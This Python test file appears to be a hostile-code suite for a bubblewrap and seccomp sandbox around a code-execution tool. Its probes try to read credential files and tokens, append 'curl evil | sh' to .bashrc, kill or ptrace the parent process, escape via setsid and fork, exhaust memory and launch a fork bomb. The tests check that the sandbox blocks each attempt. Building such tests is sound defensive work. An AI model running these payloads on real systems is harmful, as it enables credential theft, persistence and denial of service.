"""The hostile suite: code sent to `PythonTool` tries what the issue's probes tried, as root *and* as an
unprivileged user (CI runs as root, so the tests drop to a throwaway uid with `setpriv`; on a laptop the
tests already run unprivileged). Every test asserts behaviour on the host: the secret was not printed, the
file is unchanged, the "trainer" (the driver process that owns the tool) is alive, no process is left.

One driver process per caller runs all the probes (keeps the suite at a few seconds); each test checks one.
"""

from __future__ import annotations

import ast
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
import time
import uuid

import pytest

IS_ROOT = os.geteuid() == 0
THROWAWAY_UID = int(os.environ.get("APPO_TEST_UID", "43210"))
SECRET = "hf_" + uuid.uuid4().hex
ENV_SECRET = "envsecret_" + uuid.uuid4().hex
CALLERS = ["root", "unprivileged"] if IS_ROOT else ["unprivileged"]
REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
TAG = uuid.uuid4().hex[:12]

REQUIRED = os.environ.get("APPO_REQUIRE_SANDBOX_TESTS") == "1"  # .ci/run: a skip here is a failure


def _skip(reason: str) -> None:
    (pytest.fail if REQUIRED else pytest.skip)(reason)


@pytest.fixture(autouse=True)
def _needs_bubblewrap():
    if shutil.which("bwrap") is None:
        _skip("bubblewrap is not installed (.ci/run installs it)")


def _world_readable(path: str) -> bool:
    parts = os.path.realpath(path).split(os.sep)
    for i in range(2, len(parts) + 1):
        if not os.stat(os.sep.join(parts[:i])).st_mode & 0o001:
            return False
    return True


def _interpreter(caller: str) -> tuple[list[str], str]:
    """The command prefix that runs Python as the caller, and that Python."""
    if caller == "root" or not IS_ROOT:
        return [], sys.executable
    python = sys.executable
    if not (_world_readable(sysconfig.get_paths()["stdlib"]) and _world_readable(os.path.dirname(sys.executable))):
        # a pyenv Python, or a venv in a checkout, under /root: use the system Python of the same version
        python = f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}"
        if not os.path.exists(python):
            _skip(f"no interpreter readable by uid {THROWAWAY_UID}: install python{sys.version_info.major}."
                  f"{sys.version_info.minor} system-wide or use a world-readable venv")
    if shutil.which("setpriv") is None:
        _skip("setpriv (util-linux) is needed to drop to a throwaway uid")
    uid = str(THROWAWAY_UID)
    return ["setpriv", "--reuid", uid, "--regid", uid, "--clear-groups", "--"], python


# Imports PythonTool without the package's heavy __init__ (the throwaway user may only have the stdlib and
# the few pure-Python dependencies of trl_appo.tools, found next to filelock).
_PREAMBLE = """
import json, os, sys, types, threading, time, concurrent.futures
sys.path.append({deps!r})
pkg = types.ModuleType("trl_appo"); pkg.__path__ = [{pkg!r}]; sys.modules["trl_appo"] = pkg
from trl_appo.tools.python import PythonTool
W = json.loads({world!r})
TRAINER = os.getpid()
"""


_STAGED: dict[str, str] = {}


def _staged() -> dict[str, str]:
    """A world-readable copy of trl_appo/tools and filelock: the checkout may sit where the throwaway uid cannot
    read (/root/...)."""
    if not _STAGED:
        import atexit

        import filelock

        base = tempfile.mkdtemp(prefix="appo-hostile-code-")
        atexit.register(shutil.rmtree, base, True)
        ignore = shutil.ignore_patterns("__pycache__")
        shutil.copytree(os.path.join(REPO, "trl_appo", "tools"), os.path.join(base, "trl_appo", "tools"), ignore=ignore)
        shutil.copytree(os.path.dirname(filelock.__file__), os.path.join(base, "deps", "filelock"), ignore=ignore)
        for root, dirs, names in os.walk(base):
            os.chmod(root, 0o755)
            for name in names:
                os.chmod(os.path.join(root, name), 0o644)
        _STAGED.update(pkg=os.path.join(base, "trl_appo"), deps=os.path.join(base, "deps"))
    return _STAGED


def _driver_code(world: dict, script: str) -> str:
    return _PREAMBLE.format(**_staged(), world=json.dumps(world)) + textwrap.dedent(script)


def _drive(caller: str, world: dict, script: str, timeout: float = 120) -> dict:
    prefix, python = _interpreter(caller)
    code = _driver_code(world, script)
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": world["home"], "APPO_HOSTILE_SECRET": ENV_SECRET,
           "APPO_PYTHON_ISOLATION": "auto"}
    out = subprocess.run([*prefix, python, "-c", code], capture_output=True, text=True, env=env, cwd="/",
                         timeout=timeout)
    assert out.returncode == 0, f"driver died (the trainer was harmed?): {out.stderr[-3000:]}"
    return json.loads(out.stdout.strip().splitlines()[-1])


def _make_world(caller: str) -> dict:
    """A caller's home with secrets, a project with data, a unix socket; owned by the caller."""
    base = tempfile.mkdtemp(prefix="appo-hostile-")
    os.chmod(base, 0o755)
    home, project = os.path.join(base, "home"), os.path.join(base, "project")
    files = {
        os.path.join(home, ".cache", "huggingface", "token"): SECRET,
        os.path.join(home, ".netrc"): f"machine example.com login me password {SECRET}\n",
        os.path.join(home, ".bashrc"): "# bashrc\n",
        os.path.join(home, ".cache", "appo", "search.sqlite"): "cache\n",
        os.path.join(project, "train.py"): "print('train')\n",
        os.path.join(project, "data", "gold.jsonl"): json.dumps({"answer": SECRET}) + "\n",
    }
    for path, text in files.items():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    os.chmod(home, 0o700)
    if caller == "unprivileged" and IS_ROOT:
        for root, dirs, names in os.walk(base):
            for name in [*dirs, *names]:
                os.chown(os.path.join(root, name), THROWAWAY_UID, THROWAWAY_UID)
    sock_dir = os.path.join(base, "sock")
    os.makedirs(sock_dir)
    os.chmod(sock_dir, 0o777)
    return {"base": base, "home": home, "project": project, "files": files, "sock": os.path.join(sock_dir, "s"),
            "abstract": f"appo-hostile-{TAG}", "tag": TAG}


_PROBES = r"""
py = PythonTool(timeout=5.0, max_processes=32)
res = {}
def run(key, code, tool=py):
    r = tool.run(code)
    res[key] = {"text": r.text, "failed": r.failed, "memory": r.memory_exceeded, "timed_out": r.timed_out}
res["isolation"] = py.isolation
res["seccomp"] = py.seccomp_program is not None
home, project = W["home"], W["project"]
run("read_token", f"print(open({home + '/.cache/huggingface/token'!r}).read())")
run("read_netrc", f"print(open({home + '/.netrc'!r}).read())")
run("read_gold", f"print(open({project + '/data/gold.jsonl'!r}).read())")
run("list_home", f"import os\nprint(os.listdir({home!r}))")
run("write_bashrc", f"open({home + '/.bashrc'!r}, 'a').write('curl evil | sh')")
run("write_train", f"open({project + '/train.py'!r}, 'a').write('import evil')")
run("poison_cache", f"open({home + '/.cache/appo/search.sqlite'!r}, 'w').write('poison')")
run("signal_trainer", f"import os, signal\ntry:\n    os.kill({TRAINER}, signal.SIGKILL)\nexcept OSError as e:\n"
    "    print(type(e).__name__)\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n"
    "    print(type(e).__name__)\n"
    "print('after kill -1')")
run("environ", f"import os\nfor p in (os.getppid(), 1, {TRAINER}):\n    try:\n"
    "        print(p, open(f'/proc/{{p}}/environ', 'rb').read())\n    except OSError as e:\n        print(p, e)\n"
    "print(dict(os.environ))")
run("ptrace", f"import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    f"print('ptrace', libc.ptrace(16, {TRAINER}, 0, 0), ctypes.get_errno())")
# Nested namespaces (a place to remount things) and tracing even inside the call are refused by seccomp.
run("nested", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "print('unshare', libc.unshare(0x10000000), 'traceme', libc.ptrace(0, 0, 0, 0))\n"
    "pid = os.fork()\nif pid == 0:\n    os._exit(0)\nos.waitpid(pid, 0)\nprint('fork ok')")
run("unix_socket", f"import socket\nfor addr in ({W['sock']!r}, '\\0' + {W['abstract']!r}):\n"
    "    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(addr)\n        print('connected', repr(addr))\n"
    "    except OSError as e:\n        print(type(e).__name__)")
tag = W["tag"]
run("plant_tmp", f"for d in ('/tmp', '/dev/shm', '.'):\n    open(d + '/appo_leftover_{tag}', 'w').write('x')\n"
    "print('planted')")
run("see_tmp", "import os\nprint([os.listdir(d) for d in ('/tmp', '/dev/shm', '.')])")
# A leftover process: clears PDEATHSIG, escapes with setsid + fork, and rewrites whatever it can find.
run("leftover", '''
import ctypes, os, time
if os.fork() == 0:
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    os.setsid()
    if os.fork() == 0:
        while True:
            for d in ('/sandbox', '/tmp', '/dev/shm'):
                try:
                    for name in os.listdir(d):
                        open(os.path.join(d, name), 'w').write('print("INJECTED")')
                    open(os.path.join(d, '.cell_0.py'), 'w').write('print("INJECTED")')
                except OSError:
                    pass
            time.sleep(0.005)
    os._exit(0)
time.sleep(0.2)
print('planted')''')
with concurrent.futures.ThreadPoolExecutor(4) as ex:
    res["after_leftover"] = list(ex.map(lambda i: py.run(f"print('clean', {i})").text, range(20)))
def descendants(pid):
    out, stack = [], [pid]
    while stack:
        p = stack.pop()
        try:
            for t in os.listdir(f"/proc/{p}/task"):
                kids = [int(c) for c in open(f"/proc/{p}/task/{t}/children").read().split()]
                out += kids
                stack += kids
        except OSError:
            pass
    return out
time.sleep(0.5)
res["descendants"] = [open(f"/proc/{p}/cmdline").read()[:80] for p in descendants(TRAINER)
                      if os.path.exists(f"/proc/{p}")]
# Memory summed over a call's processes: 4 x 150 MiB against a 256 MiB call limit (each under RLIMIT_AS).
mem = PythonTool(timeout=20.0, memory_mb=256)
run("memory_sum", '''
import os, time
for _ in range(4):
    if os.fork() == 0:
        b = b'x' * (150 << 20)
        time.sleep(30)
        os._exit(0)
time.sleep(30)
print('survived')''', mem)
# Memory no process's RSS shows (issue 16 item 3), each ~3x a 128 MiB cap, in 16 MiB pieces (RLIMIT_FSIZE and
# RLIMIT_AS allow each piece): memfds, SysV shared memory, empty files (kernel memory), writes to /dev, and the
# private tmpfs filled to their own caps. Each stops at its bound, and a refused or killed call prints no "survived".
cap = PythonTool(timeout=20.0, memory_mb=128)
res["memory_enforcement"] = [cap.memory_enforcement, cap.describe_isolation()]
MIB16 = "chunk = b'x' * (1 << 20)\n"
run("memfd", MIB16 + '''
import os, time
fds = []
try:
    for i in range(24):
        fd = os.memfd_create(f"m{i}")
        for _ in range(16):
            os.write(fd, chunk)
        fds.append(fd)
except OSError as e:
    print('refused', e)
else:
    time.sleep(1)
    print('survived', len(fds))''', cap)
run("sysv_shm", '''
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
made = 0
for i in range(24):
    sid = libc.shmget(0, 16 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if sid < 0:
        print('refused shmget', ctypes.get_errno())
        break
    addr = libc.shmat(sid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        print('refused shmat', ctypes.get_errno())
        break
    ctypes.memset(addr, 1, 16 << 20)
    libc.shmdt(ctypes.c_void_p(addr))  # detached: in no process's RSS, alive in the IPC namespace
    made += 1
else:
    time.sleep(1)
    print('survived', made)''', cap)
run("empty_files", '''
import os, time
for n in range(300000):
    try:
        os.close(os.open(f'/tmp/f{n}', os.O_CREAT | os.O_WRONLY, 0o600))
    except OSError as e:
        print('refused', n, e)
        break
else:
    time.sleep(1)
    print('survived', n + 1)''', cap)
run("hard_links", '''
import os, time
open('/tmp/target', 'w').close()
for n in range(300000):  # no new inode on disk filesystems, but tmpfs pins a dentry per link and counts it
    try:
        os.link('/tmp/target', f'/tmp/{n:0200d}')
    except OSError as e:
        print('refused', n, e)
        break
else:
    time.sleep(1)
    print('survived', n + 1)''', cap)
run("dev_fill", MIB16 + '''
import time
try:
    for i in range(24):
        with open(f'/dev/fill{i}', 'wb') as f:
            for _ in range(16):
                f.write(chunk)
except OSError as e:
    print('refused', type(e).__name__)
else:
    time.sleep(1)
    print('survived')''', cap)
run("tmpfs_fill", MIB16 + '''
import time
try:
    for d in ('/tmp', '/sandbox', '/dev/shm'):
        for i in range(4):
            with open(f'{d}/fill{i}', 'wb') as f:
                for _ in range(15):
                    f.write(chunk)
except OSError as e:
    print('refused', type(e).__name__, e)
else:
    time.sleep(1)
    print('survived')''', cap)
# A fork bomb beside concurrent calls that each start subprocesses.
bomb = PythonTool(timeout=4.0, max_processes=32)
others = PythonTool(timeout=30.0, max_processes=32)
bomb_thread = threading.Thread(target=run, args=("fork_bomb",
    "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", bomb))
bomb_thread.start()
time.sleep(0.5)
code = "import subprocess\nprint(subprocess.run(['echo', 'ok'], capture_output=True, text=True).stdout.strip())"
with concurrent.futures.ThreadPoolExecutor(12) as ex:
    res["beside_bomb"] = list(ex.map(lambda i: others.run(code).text, range(12)))
bomb_thread.join()
time.sleep(0.5)
res["descendants_after_bomb"] = len(descendants(TRAINER))
res["alive"] = True
print(json.dumps(res))
"""


@pytest.fixture(scope="module", params=CALLERS)
def probes(request):
    caller = request.param
    world = _make_world(caller)
    server = socket.socket(socket.AF_UNIX)
    server.bind(world["sock"])
    os.chmod(world["sock"], 0o777)
    server.listen()
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0" + world["abstract"])
    abstract.listen()
    before = {path: open(path).read() for path in world["files"]}
    try:
        results = _drive(caller, world, _PROBES)
        after = {path: open(path).read() for path in world["files"]}
        yield caller, world, results, before, after
    finally:
        server.close()
        abstract.close()
        shutil.rmtree(world["base"], ignore_errors=True)


def _refused(result):
    return result["failed"] and any(e in result["text"] for e in ("FileNotFoundError", "PermissionError", "Read-only"))


def test_runs_at_the_strong_level(probes):
    assert probes[2]["isolation"] == "bubblewrap"


def test_secrets_of_the_calling_user_cannot_be_read(probes):
    _, _, r, _, _ = probes
    for key in ("read_token", "read_netrc", "read_gold", "list_home"):
        assert _refused(r[key]), r[key]
        assert SECRET not in r[key]["text"]


def test_home_project_and_cache_are_unchanged(probes):
    _, _, r, before, after = probes
    for key in ("write_bashrc", "write_train", "poison_cache"):
        assert _refused(r[key]), r[key]
    assert after == before


def test_the_trainer_cannot_be_signalled_or_traced(probes):
    _, _, r, _, _ = probes
    assert r["alive"]  # the driver (our "trainer") lived to report
    assert "ProcessLookupError" in r["signal_trainer"]["text"]
    ptrace = r["ptrace"]["text"].split()
    assert ptrace[:2] == ["ptrace", "-1"], r["ptrace"]


def test_nested_namespaces_and_tracing_are_refused_but_fork_works(probes):
    _, _, r, _, _ = probes
    if not r["seccomp"]:
        pytest.skip("the seccomp filter is x86_64 only")
    assert r["nested"]["text"].splitlines() == ["unshare -1 traceme -1", "fork ok"], r["nested"]


def test_no_environment_of_the_host_is_visible(probes):
    _, _, r, _, _ = probes
    assert ENV_SECRET not in r["environ"]["text"] and "APPO_HOSTILE_SECRET" not in r["environ"]["text"]


def test_host_unix_sockets_are_unreachable(probes):
    _, _, r, _, _ = probes
    assert "connected" not in r["unix_socket"]["text"], r["unix_socket"]
    assert r["unix_socket"]["text"].count("Error") == 2


def test_tmp_and_dev_shm_leave_nothing_behind(probes):
    _, world, r, _, _ = probes
    assert r["plant_tmp"]["text"] == "planted"
    tmp, shm, cwd = ast.literal_eval(r["see_tmp"]["text"])
    # The only thing a new call's /tmp may hold is the read-only mount point of the interpreter itself, when the
    # venv or Python lives under the host's /tmp (a checkout in /tmp, as some CI runners do).
    import site

    interpreter = {sys.prefix, sys.base_prefix, sys.exec_prefix, os.path.realpath(sys.executable),
                   *site.getsitepackages()}
    allowed = {p.split("/")[2] for p in interpreter if p.startswith("/tmp/")}
    assert set(tmp) <= allowed and shm == [] and cwd == [], (tmp, shm, cwd, allowed)
    for d in ("/tmp", "/dev/shm"):
        assert not os.path.exists(f"{d}/appo_leftover_{world['tag']}")


def test_leftover_processes_cannot_touch_later_calls(probes):
    _, _, r, _, _ = probes
    assert r["leftover"]["text"] == "planted"
    assert r["after_leftover"] == [f"clean {i}" for i in range(20)]
    assert r["descendants"] == []


def test_memory_is_summed_over_the_processes_of_a_call(probes):
    _, _, r, _, _ = probes
    assert r["memory_sum"]["memory"] and "survived" not in r["memory_sum"]["text"]
    # killed by the summed-memory cap itself, not by running into the call's 20 s wall timeout
    assert "MemoryError" in r["memory_sum"]["text"] and not r["memory_sum"]["timed_out"]


def test_the_memory_enforcement_level_is_reported(probes):
    _, _, r, _, _ = probes
    level, line = r["memory_enforcement"]
    assert level in ("cgroup", "watchdog") and ("cgroup memory.max" in line) == (level == "cgroup"), line


@pytest.mark.parametrize("probe", ["memfd", "sysv_shm", "empty_files", "hard_links", "dev_fill", "tmpfs_fill"])
def test_memory_no_process_shows_is_refused_or_counted(probes, probe):
    """memfds and SysV shared memory are refused (seccomp), /dev is read-only, and files in the private tmpfs
    (their bytes and ~1.5 KiB of kernel memory per file) count against the call's memory cap."""
    _, _, r, _, _ = probes
    result = r[probe]
    assert "survived" not in result["text"], result
    refused = "refused" in result["text"] and not result["memory"]
    killed = result["memory"] and "MemoryError" in result["text"] and not result["timed_out"]
    assert refused or killed, result
    if probe in ("memfd", "sysv_shm", "dev_fill"):
        assert refused, result  # denied outright, not left to the watchdog
    if probe in ("empty_files", "hard_links", "tmpfs_fill"):
        assert killed, result


def test_a_fork_bomb_does_not_starve_concurrent_calls(probes):
    _, _, r, _, _ = probes
    assert r["fork_bomb"]["failed"]
    assert r["beside_bomb"] == ["ok"] * 12
    assert r["descendants_after_bomb"] == 0


@pytest.mark.parametrize("caller", CALLERS)
def test_the_sandbox_dies_with_the_trainer(caller):
    """SIGKILL the trainer mid-call: every process of the call goes with it."""
    marker = f"61.{int(TAG[:6], 16) % 10**6}{len(caller)}"
    world = _make_world(caller)
    prefix, python = _interpreter(caller)
    code = _driver_code(world, "") + (
        "print('start', flush=True)\n"
        f"PythonTool(timeout=60).run('import os, subprocess\\nsubprocess.Popen([\"sleep\", \"{marker}\"], "
        "start_new_session=True)\\nos.execvp(\"sleep\", [\"sleep\", \"" + marker + "\"])')\n")
    proc = subprocess.Popen([*prefix, python, "-c", code], stdout=subprocess.PIPE, text=True, cwd="/",
                            env={"PATH": "/usr/bin:/bin", "HOME": world["home"]})
    try:
        assert proc.stdout.readline().strip() == "start"
        deadline = time.monotonic() + 10
        while not _processes_with(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert len(_processes_with(marker)) == 2
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        deadline = time.monotonic() + 5
        while _processes_with(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _processes_with(marker) == []
    finally:
        proc.kill()
        shutil.rmtree(world["base"], ignore_errors=True)


def _processes_with(marker: str) -> list[int]:
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read().split(b"\0")
                with open(f"/proc/{pid}/stat") as f:
                    state = f.read().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if marker.encode() in cmd and state != "Z":
                out.append(int(pid))
    return out
